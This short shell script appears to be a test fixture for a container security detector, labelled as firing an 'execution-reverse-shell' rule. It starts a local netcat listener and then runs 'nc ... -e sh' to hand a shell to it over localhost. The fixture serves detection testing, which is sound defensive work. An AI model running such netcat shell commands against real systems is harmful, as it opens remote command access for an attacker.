# in: container
# fires: execution-reverse-shell
nc -l -p 4444 < /dev/null &
sleep 0.3
nc -w 2 127.0.0.1 4444 -e sh
